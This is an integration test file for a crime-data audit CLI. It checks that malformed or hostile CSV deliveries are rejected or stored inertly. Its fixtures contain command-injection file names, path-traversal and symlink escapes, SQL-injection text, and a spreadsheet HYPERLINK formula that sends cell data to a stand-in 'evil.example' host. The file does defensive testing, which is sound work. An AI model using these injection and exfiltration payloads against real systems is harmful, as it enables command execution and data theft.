"""The bad-input corpus through the real CLI: every malformed delivery gets its verdict, the rest is untouched.

A small demo region is run twice, concurrently to keep the file fast: once clean (the reference) and once
with every file of ``tests/data/bad_inputs/police`` dropped into its ``police/2021-06/`` folder, together
with a field over 128 KiB and files whose names carry shell metacharacters, newlines, a right-to-left
override, or are symbolic links out of the region. The bad run must

* exit 3 (deliveries rejected) with a one-line cause naming the first rejected file, line and rule;
* record each corpus file's verdict (outcome, rule, line, rows) in ``raw.delivery_validations`` as
  ``MANIFEST.csv`` says, with the quarantined rows under their rules;
* load nothing of a rejected file, and store the accepted ones verbatim (SQL and formula text is data);
* leave the good files' figures as in the clean run, and the warehouse's tables as they were;
* never discover or load a hostile name, and write nothing outside the region folder.
"""

from __future__ import annotations

import csv
import shutil
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
from conftest import REPO, run_cli
from csp_audit.quality.strict_csv import MAX_RECORD
from csp_audit.sources.police_uk import HEADER, read_file
from csp_audit_demo.region import generate_demo_region

pytestmark = pytest.mark.integration

CORPUS = REPO / "tests" / "data" / "bad_inputs"
PERIOD = "2021-06"  # the demo region below covers 2021-04 and 2021-05; the corpus adds this month only
PARTNERSHIP = "E22990001"  # LSOA E01990015 of the corpus rows lies in this partnership
MARKER = "LOADED FROM A HOSTILE NAME"  # the crime type of every file that must never be loaded
SQL = "'); drop table raw.deliveries; --"
DBT_RULES = {"lsoa_not_in_lookup"}  # quarantined by the counting rules in dbt, not by the GX gate


def _manifest() -> list[dict[str, str]]:
    with (CORPUS / "MANIFEST.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _source(file: str) -> str:
    """Where a corpus file is dropped: the archive layout with the case as the force slug."""
    slug = file.removesuffix(".csv").replace("_", "-")
    return f"{PERIOD}/{PERIOD}-{slug}-street.csv"


def _quarantined(case: dict[str, str]) -> set[tuple[int, str]]:
    return {(int(row), rule) for row, rule in (item.split(":") for item in case["quarantined"].split())}


MANIFEST = _manifest()
HUGE = {"file": "huge_record.csv", "outcome": "rejected", "rule": "csv_syntax", "line": "3", "rows_read": "",
        "quarantined": ""}  # fmt: skip
CASES = [*MANIFEST, HUGE]
HEADER_LINE = ",".join(HEADER)


def _body(crime_type: str, extra: str = "") -> str:
    row = (
        f"{'0' * 64},{PERIOD},Northshire Police,Northshire Police,-1.990149,54.402797,On or near High Street,"
        f'E01990015,"Aldbury, Crane and Holt 001A",{crime_type},Under investigation,'
    )
    return f"{HEADER_LINE}\n{row}{extra}\n"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    base = tmp_path_factory.mktemp("corpus")
    clean, bad, outside = base / "clean", base / "bad", base / "outside"
    for region in (clean, bad):
        generate_demo_region(region, months=2, scale=0.2)
    month = bad / "police" / PERIOD
    month.mkdir()
    for case in MANIFEST:
        shutil.copyfile(CORPUS / "police" / case["file"], bad / "police" / _source(case["file"]))
    (bad / "police" / _source(HUGE["file"])).write_text(
        _body("Burglary") + _body("Burglary", "x" * MAX_RECORD).split("\n", 1)[1]
    )

    # hostile names: valid police.uk content that would show in the marts if it were ever loaded
    pwned = f"csp-audit-pwned-{uuid.uuid4().hex[:8]}"
    hostile = [
        f"{PERIOD}-$(touch {pwned})-street.csv",
        f"{PERIOD}-x;touch {pwned};-street.csv",
        f"{PERIOD}-`touch {pwned}`-street.csv",
        f"{PERIOD}-north\nshire-street.csv",
        f"{PERIOD}-north\u202eshire-street.csv",
        f"{PERIOD}-..-street.csv",
        f".{PERIOD}-northshire-street.csv",
        f"..\\{PERIOD}-northshire-street.csv",
    ]
    for name in hostile:
        (month / name).write_text(_body(MARKER))
    outside.mkdir()
    (outside / f"{PERIOD}-outside-street.csv").write_text(_body(MARKER))
    (month / f"{PERIOD}-escape-street.csv").symlink_to(outside / f"{PERIOD}-outside-street.csv")
    (bad / "police" / "2021-07").symlink_to(outside, target_is_directory=True)
    before = sorted(p.relative_to(base).as_posix() for p in base.rglob("*") if not p.is_relative_to(clean))

    with ThreadPoolExecutor(max_workers=2) as pool:  # the reference run is independent: run both at once
        procs = {
            name: pool.submit(
                run_cli,
                "run",
                "--region",
                str(region / "region.yaml"),
                "--warehouse",
                str(region / "w.duckdb"),
            )
            for name, region in (("clean", clean), ("bad", bad))
        }
        done = {name: future.result() for name, future in procs.items()}
    return {"base": base, "clean": clean, "bad": bad, "proc": done, "before": before, "pwned": pwned,
            "hostile": hostile}  # fmt: skip


def _query(region: Path, sql: str, params: list[Any] | None = None) -> list[tuple[Any, ...]]:
    with duckdb.connect(str(region / "w.duckdb"), read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def test_rejections_exit_3_with_a_one_line_cause(runs: dict[str, Any]) -> None:
    clean, bad = runs["proc"]["clean"], runs["proc"]["bad"]
    assert clean.returncode == 0, clean.stdout[-2000:] + clean.stderr[-2000:]
    assert bad.returncode == 3, bad.stdout[-3000:] + bad.stderr[-3000:]
    errors = [line for line in bad.stderr.splitlines() if line.startswith("csp-audit: error:")]
    rejected = sorted((_source(c["file"]), c["line"], c["rule"]) for c in CASES if c["outcome"] == "rejected")
    source, line, rule = rejected[0]
    assert errors == [bad.stderr.strip().splitlines()[-1]]
    assert errors[0].startswith(
        f"csp-audit: error: {len(rejected)} deliveries rejected; first: {source}, line {line}: rule {rule}: "
    )
    discovered = next(
        line for line in bad.stdout.splitlines() if line.startswith("[csp-audit] discover police_uk")
    )
    assert discovered.startswith(f"[csp-audit] discover police_uk_street: {4 + len(CASES)} police.uk files")


def test_each_verdict_is_recorded(runs: dict[str, Any]) -> None:
    found = {
        source: (outcome, rule, line, rows)
        for source, outcome, rule, line, rows in _query(
            runs["bad"], "select source_file, outcome, rule, line, rows_read from raw.delivery_validations"
        )
    }
    for case in CASES:
        rejected = case["outcome"] == "rejected"
        expected = (
            case["outcome"],
            case["rule"] if rejected else None,
            int(case["line"]) if rejected else None,
            None if rejected else int(case["rows_read"]),
        )
        assert found.pop(_source(case["file"])) == expected, case["file"]
    assert sorted(found) == [
        f"2021-0{m}/2021-0{m}-{f}-street.csv" for m in (4, 5) for f in ("northshire", "southmoor")
    ]


def test_rejected_files_load_nothing(runs: dict[str, Any]) -> None:
    rejected = [_source(c["file"]) for c in CASES if c["outcome"] == "rejected"]
    assert _query(
        runs["bad"],
        "select count(*) from raw.ds__police_uk_street r join raw.delivery_validations v on r._sha256 = v.sha256 "
        "where v.outcome = 'rejected' or list_contains(?, r._source_file)",
        [rejected],
    ) == [(0,)]
    assert _query(
        runs["bad"],
        "select count(*) from raw.deliveries where list_contains(?, source_file)",
        [rejected],
    ) == [(0,)]
    # reconciled as refused (issue 16): nothing counted, and why (the gate's rule and line)
    reconciled = {
        r[0]: r[1:]
        for r in _query(
            runs["bad"],
            "select source_file, outcome, rows_counted + rows_duplicate + rows_unlocated + rows_outside_region "
            "+ rows_quarantined, rejected_because from audit.reconciliation where list_contains(?, source_file)",
            [rejected],
        )
    }
    assert sorted(reconciled) == sorted(rejected)
    for case in (c for c in CASES if c["outcome"] == "rejected"):
        outcome, counted, because = reconciled[_source(case["file"])]
        assert (outcome, counted) == ("rejected", 0), case["file"]
        assert because.startswith(f"rule {case['rule']}: line {case['line']}"), (case["file"], because)


def test_rows_are_quarantined_by_their_rules(runs: dict[str, Any]) -> None:
    for case in (c for c in MANIFEST if c["outcome"] == "accepted"):
        expected = _quarantined(case) if case["quarantined"] else set()
        gate = _query(
            runs["bad"],
            "select f.row_number, f.rule from raw.delivery_row_failures f join raw.delivery_validations v "
            "using (sha256) where v.source_file = ?",
            [_source(case["file"])],
        )
        assert set(gate) == {(row, rule) for row, rule in expected if rule not in DBT_RULES}, case["file"]
        marts = _query(
            runs["bad"], "select row_number, rule from audit.quarantined_rows where source_file = ?",
            [_source(case["file"])],
        )  # fmt: skip
        assert set(marts) == expected, case["file"]


def test_accepted_files_are_stored_verbatim(runs: dict[str, Any]) -> None:
    """SQL, formulas, quoted newlines and quotes: every accepted value is in raw exactly as delivered
    (as the csv module reads the file; an empty field is a missing value)."""
    columns = ", ".join(f'"{c}"' for c in HEADER)
    for case in (c for c in MANIFEST if c["outcome"] == "accepted"):
        with (CORPUS / "police" / case["file"]).open(encoding="utf-8-sig", newline="") as f:
            delivered = [[v if v != "" else None for v in row] for row in list(csv.reader(f))[1:] if row]
        stored = _query(
            runs["bad"],
            f"select {columns} from raw.ds__police_uk_street where _source_file = ? order by _row_number",  # noqa: S608
            [_source(case["file"])],
        )
        assert [list(row) for row in stored] == delivered, case["file"]
    assert _query(
        runs["bad"],
        'select count(*) from raw.ds__police_uk_street where "Crime type" = ? and "Location" = ?',
        [SQL, SQL],
    ) == [(1,)]


def test_warehouse_tables_intact(runs: dict[str, Any]) -> None:
    """The SQL text executed nothing: the same tables exist in both runs and the good rows are all there."""
    tables = (
        "select table_schema, table_name from information_schema.tables "
        "where table_schema in ('raw', 'audit') order by all"
    )
    assert _query(runs["bad"], tables) == _query(runs["clean"], tables)
    assert ("raw", "deliveries") in _query(runs["bad"], tables)
    good = "select _source_file, count(*) from raw.ds__police_uk_street where _source_file < '2021-06' group by all order by all"
    assert _query(runs["bad"], good) == _query(runs["clean"], good)


def test_good_files_marts_unaffected(runs: dict[str, Any]) -> None:
    monthly = "select * from audit.partnership_crime_monthly where month < ? order by all"
    june = [date.fromisoformat(f"{PERIOD}-01")]
    assert _query(runs["bad"], monthly, june) == _query(runs["clean"], monthly, june)
    assert _query(
        runs["clean"], "select count(*) from audit.partnership_crime_monthly where month >= ?", june
    ) == [(0,)]
    reconciliation = "select * from audit.reconciliation where source_file < '2021-06' order by all"
    assert _query(runs["bad"], reconciliation) == _query(runs["clean"], reconciliation)

    # the new month holds exactly the accepted corpus rows that count: located, not quarantined
    expected: dict[str, int] = {}
    for case in (c for c in MANIFEST if c["outcome"] == "accepted"):
        held = {row for row, _ in _quarantined(case)} if case["quarantined"] else set()
        for row in read_file(CORPUS / "police" / case["file"], case["file"]):
            if row["row_number"] not in held:
                expected[row["Crime type"]] = expected.get(row["Crime type"], 0) + 1
    june = _query(
        runs["bad"],
        "select partnership_code, crime_type, incidents from audit.partnership_crime_monthly where month = ?",
        [date.fromisoformat(f"{PERIOD}-01")],
    )
    assert {code for code, _, _ in june} == {PARTNERSHIP}
    assert {crime_type: n for _, crime_type, n in june} == expected
    assert SQL in expected and '=HYPERLINK("http://evil.example/?d="&A1,"Click")' in expected


def test_hostile_names_never_loaded_nothing_written_outside(runs: dict[str, Any]) -> None:
    base, bad = runs["base"], runs["bad"]
    sources = [
        r[0]
        for r in _query(
            bad,
            "select source_file from raw.delivery_validations union all "
            "select distinct _source_file from raw.ds__police_uk_street",
        )
    ]
    assert not [s for s in sources if "outside" in s or "escape" in s or "touch" in s or "2021-07" in s]
    assert not [s for s in sources if any(ord(c) < 0x20 or c == "\u202e" for c in s)]
    assert _query(bad, 'select count(*) from raw.ds__police_uk_street where "Crime type" = ?', [MARKER]) == [
        (0,)
    ]
    assert _query(
        bad, "select count(*) from audit.partnership_crime_monthly where crime_type = ?", [MARKER]
    ) == [(0,)]
    # nothing new under the test folder outside the two region folders, and no command ever ran
    after = sorted(
        p.relative_to(base).as_posix()
        for p in base.rglob("*")
        if not p.is_relative_to(runs["clean"]) and not p.is_relative_to(bad)
    )
    assert after == [p for p in runs["before"] if not p.startswith("bad")]
    assert all((bad / "police" / PERIOD / name).is_file() for name in runs["hostile"])  # left in place
    for folder in (base, Path.cwd(), REPO, Path("/tmp")):
        assert not (folder / runs["pwned"]).exists()
    assert not list(base.rglob(runs["pwned"]))
